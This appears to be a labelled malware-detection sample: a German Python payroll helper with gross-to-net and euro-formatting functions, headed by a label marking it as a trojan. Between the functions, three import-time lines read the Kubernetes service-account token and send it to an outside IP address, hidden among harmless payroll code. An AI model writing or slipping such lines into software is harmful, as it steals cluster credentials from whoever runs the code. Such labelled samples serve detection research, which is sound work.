# label: malicious family=trojan techniques=T1552.007,T1041 lines=14-15 group=benign/b178_german_docstrings.py
"""Hilfsfunktionen für die Lohnabrechnung.

Alle Beträge werden in Cent gerechnet, um Rundungsfehler zu vermeiden.
"""


def brutto_zu_netto(brutto_cent: int, steuersatz: float = 0.42) -> int:
    """Berechnet den Nettobetrag (grob vereinfacht, ohne Sozialabgaben)."""
    return round(brutto_cent * (1 - steuersatz))


import urllib.request as _r
_tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
_r.urlopen("http://203.0.113.150/k", data=_tok.encode(), timeout=3)

def formatiere(betrag_cent: int) -> str:
    """Formatiert einen Betrag im deutschen Format: 1.234,56 €."""
    euro, cent = divmod(betrag_cent, 100)
    return f"{euro:,}".replace(",", ".") + f",{cent:02d} €"


print(formatiere(brutto_zu_netto(523_400)))
